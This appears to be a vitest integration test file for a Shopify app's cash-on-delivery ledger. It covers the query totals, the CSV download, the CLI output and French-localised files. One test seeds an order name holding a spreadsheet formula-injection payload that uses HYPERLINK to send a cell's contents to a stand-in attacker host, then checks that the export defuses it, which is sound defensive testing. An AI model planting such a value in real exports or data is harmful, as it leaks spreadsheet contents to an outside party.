import { beforeAll, describe, expect, test } from "vitest";
import { getCodLedger } from "~/cod-ledger/ledger.server";
import { parseLedgerPeriod } from "~/cod-ledger/period";
import { runCli } from "../../stack/cli";
import { seedLedgerStory, ledgerRow } from "../support/cod-ledger-rows";
import { sessionToken, BROWSER_USER_AGENT as BROWSER } from "../support/browser/session-token";
import { useStack } from "../support/use-stack";

/*
 * The cash-on-delivery ledger on the real database (SQLite or PostgreSQL, whichever `npm test`
 * chose): the query in this process, the CSV over HTTP from the built app, and the CLI.
 */
let shop: string;
let shopId: string;
let story: Awaited<ReturnType<typeof seedLedgerStory>>;
const now = new Date();
const day = (date: Date | null) => date!.toISOString().slice(0, 10);

const stack = useStack();

beforeAll(async () => {
  shop = await stack.installShop({ currency: "XOF", label: "ledger" });
  ({ id: shopId } = await stack.db.shop.findUniqueOrThrow({ where: { domain: shop } }));
  story = await seedLedgerStory(stack.db, shopId, now);
  // Another shop's cash is never in this shop's ledger.
  const other = await stack.installShop({ currency: "XOF", label: "ledger-other" });
  const { id: otherId } = await stack.db.shop.findUniqueOrThrow({ where: { domain: other } });
  await ledgerRow(stack.db, otherId, { orderName: "#9001", codAmountMinor: 123_400 });
  await ledgerRow(stack.db, otherId, {
    orderName: "#9002",
    paymentState: "COD_COLLECTED",
    shipmentState: "delivered",
    codCollectedAt: new Date(now.getTime() - 3_600_000),
  });
});

function period(input: { from?: string; to?: string } = {}) {
  const result = parseLedgerPeriod(input, now);
  if (!result.ok) throw new Error(result.message);
  return result.period;
}

describe("the ledger query", () => {
  test("adds up the last 30 days per currency: on the road, collected by day, recorded in Shopify, needs a look", async () => {
    const ledger = (await getCodLedger({ db: stack.db, now: () => now }, shop, period()))!;
    expect(ledger.currencies.map((entry) => entry.currency)).toEqual(["EUR", "XOF"]);
    const [eur, xof] = ledger.currencies;
    expect(xof.onTheRoad).toEqual({ count: 3, amountMinor: 1_500_000 + 2_000_050 + 300_000 });
    expect(xof.collected.count).toBe(4);
    expect(xof.collected.amountMinor).toBe(2_500_000 + 1_000_000 + 700_000 + 1_200_000);
    expect(xof.recorded).toEqual({ count: 2, amountMinor: 2_500_000 + 1_200_000 });
    expect(xof.needsLook.count).toBe(4);
    expect(xof.needsLook.amountMinor).toBe(1_200_000 + 1_000_000 + 800_000 + 450_000);
    expect(xof.needsLook.byReason).toEqual({
      PAID_TWICE: { count: 1, amountMinor: 1_200_000 },
      PAID_AFTER_CANCEL: { count: 0, amountMinor: 0 },
      AMOUNT_DIFFERS: { count: 0, amountMinor: 0 },
      SHORTFALL: { count: 0, amountMinor: 0 },
      OVER_COLLECTED: { count: 0, amountMinor: 0 },
      UNRECORDED_AFTER_A_DAY: { count: 1, amountMinor: 1_000_000 },
      DELIVERED_NO_CASH: { count: 1, amountMinor: 800_000 },
      RETURNED: { count: 1, amountMinor: 450_000 },
    });
    expect(eur).toMatchObject({
      onTheRoad: { count: 0, amountMinor: 0 },
      collected: { count: 1, amountMinor: 4_199 },
      recorded: { count: 1, amountMinor: 4_199 },
      needsLook: { count: 0 },
    });

    // Per UTC day of the collection, 30 days ending today.
    expect(xof.collected.byDay).toHaveLength(30);
    expect(xof.collected.byDay.at(-1)!.day).toBe(day(now));
    const onDay = (date: Date | null) => xof.collected.byDay.find((entry) => entry.day === day(date))!;
    expect(onDay(story.recorded.codCollectedAt)).toMatchObject({ count: 1, amountMinor: 2_500_000 });
    expect(onDay(story.paidTwice.codCollectedAt)).toMatchObject({ count: 1, amountMinor: 1_200_000 });
    expect(xof.collected.byDay.reduce((sum, entry) => sum + entry.amountMinor, 0)).toBe(xof.collected.amountMinor);

    // The orders behind each figure.
    const names = (orders: Array<{ orderName: string }>) => orders.map((order) => order.orderName).sort();
    expect(names(ledger.orders.onTheRoad)).toEqual(["#5001", "#5002", "#5003"]);
    expect(names(ledger.orders.collected)).toEqual(["#5010", "#5011", "#5012", "#5015", "#5020"]);
    expect(ledger.orders.needsLook.map((order) => [order.orderName, order.reason])).toEqual([
      ["#5015", "PAID_TWICE"],
      ["#5011", "UNRECORDED_AFTER_A_DAY"],
      ["#5016", "DELIVERED_NO_CASH"],
      ["#5014", "RETURNED"],
    ]);
    expect(ledger.orders.needsLook[0]).toMatchObject({
      id: story.paidTwice.id,
      currency: "XOF",
      amountMinor: 1_200_000,
    });
  });

  test("a chosen period counts what happened in it; the cash on the road and the returns not closed are there now", async () => {
    const oldDay = day(story.old.codCollectedAt);
    const ledger = (await getCodLedger({ db: stack.db, now: () => now }, shop, period({ from: oldDay, to: oldDay })))!;
    expect(ledger).toMatchObject({ from: oldDay, to: oldDay });
    const xof = ledger.currencies.find((entry) => entry.currency === "XOF")!;
    expect(xof.collected).toEqual({
      count: 1,
      amountMinor: 9_900_000,
      byDay: [{ day: oldDay, count: 1, amountMinor: 9_900_000 }],
    });
    expect(xof.recorded).toEqual({ count: 1, amountMinor: 9_900_000 });
    expect(xof.onTheRoad.count).toBe(3);
    // A returned parcel stays until the merchant closes it, whatever the period (decision 046).
    expect(xof.needsLook.byReason.RETURNED).toEqual({ count: 1, amountMinor: 450_000 });
    expect(xof.needsLook.count).toBe(1);
    expect(ledger.currencies.map((entry) => entry.currency)).toEqual(["XOF"]);
  });

  test("is null for a shop the app does not know", async () => {
    expect(await getCodLedger({ db: stack.db, now: () => now }, "nobody.myshopify.com", period())).toBeNull();
  });
});

const csvUrl = (query = "") => `${stack.app.url}/app/cod-ledger/csv${query}`;

describe("the CSV download", () => {
  test("gives the shop's ledger orders as a CSV file named after the shop and the period", async () => {
    const response = await fetch(csvUrl(), {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("cache-control")).toBe("no-store");
    const from = day(new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate() - 29)));
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="cod-ledger_${shop.replace(".myshopify.com", "")}_${from}_${day(now)}.csv"`,
    );
    const lines = (await response.text()).trimEnd().split("\r\n");
    expect(lines[0]).toBe(
      "section,reason,order,order_id,currency,amount_minor,amount,recorded_in_shopify,payment_state,shipment_state,sent_at,cod_collected_at,shopify_paid_at,cod_collected_day,amount_formatted,time_zone",
    );
    expect(lines).toHaveLength(1 + 3 + 5 + 4);
    expect(lines).toContain(
      `collected,,#5010,${story.recorded.id},XOF,2500000,25000,true,COD_COLLECTED,delivered,${story.recorded.sentAt!.toISOString()},${story.recorded.codCollectedAt!.toISOString()},${story.recorded.shopifyPaidAt!.toISOString()},${day(story.recorded.codCollectedAt)},"25,000 XOF",UTC`,
    );
    expect(lines).toContain(
      `collected,,#5020,${story.euro.id},EUR,4199,41.99,true,COD_COLLECTED,delivered,${story.euro.sentAt!.toISOString()},${story.euro.codCollectedAt!.toISOString()},${story.euro.shopifyPaidAt!.toISOString()},${day(story.euro.codCollectedAt)},41.99 EUR,UTC`,
    );
    expect(
      lines.filter((line) => line.startsWith("needs_look,")).map((line) => line.split(",").slice(0, 3).join(",")),
    ).toEqual([
      "needs_look,PAID_TWICE,#5015",
      "needs_look,UNRECORDED_AFTER_A_DAY,#5011",
      "needs_look,DELIVERED_NO_CASH,#5016",
      "needs_look,RETURNED,#5014",
    ]);
    expect(lines.some((line) => line.includes("#900"))).toBe(false);
  });

  test("answers a bad period with what is wrong, and nothing without the admin's session", async () => {
    const bad = await fetch(csvUrl("?from=2026-11-31"), {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('"2026-11-31" is not a date: write it as YYYY-MM-DD');
    const anonymous = await fetch(csvUrl(), { headers: { "User-Agent": BROWSER }, redirect: "manual" });
    expect(anonymous.status).not.toBe(200);
    expect(await anonymous.text()).not.toContain("#5010");
  });
});

describe("a cell a spreadsheet would run", () => {
  // An order name is the merchant's prefix and number in Shopify; a buyer's text reaches other files the same way.
  const FORMULA = '-1+HYPERLINK("http://evil.example/?"&A1,"x")';
  const DEFUSED = `"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")"`;

  test("is text in the download and the CLI's file; French viewers get a French file, XOF without decimals", async () => {
    const formulaShop = await stack.installShop({ currency: "XOF", label: "ledger-formula" });
    const { id } = await stack.db.shop.findUniqueOrThrow({ where: { domain: formulaShop } });
    const row = await ledgerRow(stack.db, id, { orderName: FORMULA, codAmountMinor: 3_150_000 });
    const english = await fetch(`${stack.app.url}/app/cod-ledger/csv`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop)}` },
    });
    expect(english.status).toBe(200);
    const line = `on_the_road,,${DEFUSED},${row.id},XOF,3150000,31500,,COD_PENDING,in_transit,${row.sentAt!.toISOString()},,,,"31,500 XOF",UTC`;
    expect((await english.text()).split("\r\n")).toContain(line);

    // A French viewer (Shopify names the admin's language on the request) gets the French file.
    const french = await fetch(`${stack.app.url}/app/cod-ledger/csv?locale=fr`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop, 3600, "french-viewer")}` },
    });
    expect(french.status).toBe(200);
    const bytes = Buffer.from(await french.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const frenchLines = bytes.subarray(3).toString("utf8").split("\r\n");
    expect(frenchLines[0]).toMatch(
      /^Rubrique;Motif;Commande;Identifiant de la commande;Devise;Montant \(centièmes\);Montant;/,
    );
    expect(frenchLines[1]).toBe(
      `on_the_road;;${DEFUSED};${row.id};XOF;3150000;31500;;COD_PENDING;in_transit;${row.sentAt!.toISOString()};;;;31\u202f500 XOF;UTC`,
    );

    const cli = await runCli(stack, ["cod:ledger", "--shop", formulaShop, "--csv"]);
    expect(cli.code).toBe(0);
    expect(cli.stdout.split("\r\n")).toContain(line);
    const cliFrench = await runCli(stack, ["cod:ledger", "--shop", formulaShop, "--csv", "--locale", "fr"]);
    expect(cliFrench.code).toBe(0);
    expect(cliFrench.stdout).toBe(`\uFEFF${frenchLines.join("\r\n")}`);
  });
});

describe("npm run cli -- cod:ledger", () => {
  test("--json gives the figures and the orders behind them", async () => {
    const run = await runCli(stack, ["cod:ledger", "--shop", shop, "--json"]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const ledger = run.json<{
      from: string;
      to: string;
      currencies: Array<{ currency: string; onTheRoad: unknown; needsLook: { count: number } }>;
      orders: { collected: unknown[] };
    }>();
    expect(ledger.to).toBe(day(now));
    expect(ledger.currencies.find((entry) => entry.currency === "XOF")).toMatchObject({
      onTheRoad: { count: 3, amountMinor: 3_800_050 },
      needsLook: { count: 4 },
    });
    expect(ledger.orders.collected).toHaveLength(5);
  });

  test("--csv prints the same file as the download, and the text form reads as amounts per currency", async () => {
    const oldDay = day(story.old.codCollectedAt);
    const csv = await runCli(stack, ["cod:ledger", "--shop", shop, "--from", oldDay, "--to", oldDay, "--csv"]);
    expect(csv.code).toBe(0);
    const lines = csv.stdout.trimEnd().split("\r\n");
    expect(lines.filter((line) => line.startsWith("collected,"))).toEqual([
      `collected,,#5013,${story.old.id},XOF,9900000,99000,true,COD_COLLECTED,delivered,${story.old.sentAt!.toISOString()},${story.old.codCollectedAt!.toISOString()},${story.old.shopifyPaidAt!.toISOString()},${oldDay},"99,000 XOF",UTC`,
    ]);
    const text = await runCli(stack, ["cod:ledger", "--shop", shop]);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/on the road\s+3 orders\s+38,000\.50 XOF\n/);
    expect(text.stdout).toMatch(/collected\s+4 orders\s+54,000 XOF\n/);
    expect(text.stdout).toMatch(/PAID_TWICE\s+1 order\s+12,000 XOF/);
    expect(text.stdout).not.toContain("minor units");
    expect(text.stdout).toMatch(/EUR\n\s+on the road\s+0 orders\s+0.00 EUR/);
  });

  test("refuses a bad invocation with the usage, and an unknown shop", async () => {
    const badDate = await runCli(stack, ["cod:ledger", "--shop", shop, "--from", "yesterday"]);
    expect(badDate.code).toBe(2);
    expect(badDate.stderr).toContain('"yesterday" is not a date: write it as YYYY-MM-DD');
    expect(badDate.stderr).toContain("Usage: cod:ledger --shop <domain>");
    const both = await runCli(stack, ["cod:ledger", "--shop", shop, "--json", "--csv"]);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain("Choose one of --json and --csv.");
    const unknown = await runCli(stack, ["cod:ledger", "--shop", "nobody.myshopify.com"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("Unknown shop nobody.myshopify.com.");
  });
});
